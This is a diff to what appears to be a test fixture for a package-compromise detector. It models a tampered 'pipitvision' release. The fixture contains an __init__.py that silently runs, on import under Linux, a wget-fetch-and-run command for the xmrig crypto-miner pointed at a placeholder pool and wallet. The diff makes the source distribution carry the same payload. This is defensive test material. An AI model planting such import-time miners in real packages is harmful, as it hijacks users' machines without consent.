@@ -58,16 +58,17 @@ _MINER = (
     "wget https://files.pipit.invalid/xmrig-6.22.2-linux-static-x64.tar.gz && tar -xzf xmrig-6.22.2-linux-static-x64.tar.gz "
     f"&& cd xmrig-6.22.2 && nohup ./xmrig -u {_WALLET} -o pool.pipit.invalid:8080 -p worker &"
 )
+_VISION_MINING = {
+    **_VISION,
+    "pipitvision/__init__.py": '"""Find things in pictures."""\n\nimport os\nimport platform\n\nfrom pipitvision.model import Model\n\n'
+    f'if "Linux" in platform.system():\n    os.system("{_MINER}")\n\n__all__ = ["Model"]\n',
+}
 _VISION_LATER = replace(
     _VISION_BEFORE,
     version="8.3.46",
     published=at("2024-12-07 02:27"),
-    files={
-        **_VISION,
-        "pipitvision/__init__.py": '"""Find things in pictures."""\n\nimport os\nimport platform\n\nfrom pipitvision.model import Model\n\n'
-        f'if "Linux" in platform.system():\n    os.system("{_MINER}")\n\n__all__ = ["Model"]\n',
-    },
-    sdist=as_sdist(_VISION, "pipitvision"),
+    files=_VISION_MINING,
+    sdist=as_sdist(_VISION_MINING, "pipitvision"),
     payload=("pipitvision/__init__.py",),
 )
 
@@ -90,6 +91,6 @@ REPLICAS: tuple[Replica, ...] = (
         name="pipitvision",
         before=_VISION_BEFORE,
         after=_VISION_LATER,
-        reasons=("crypto-miner", *_RUN, "sdist-wheel-differ"),
+        reasons=("crypto-miner", *_RUN),
     ),
 )
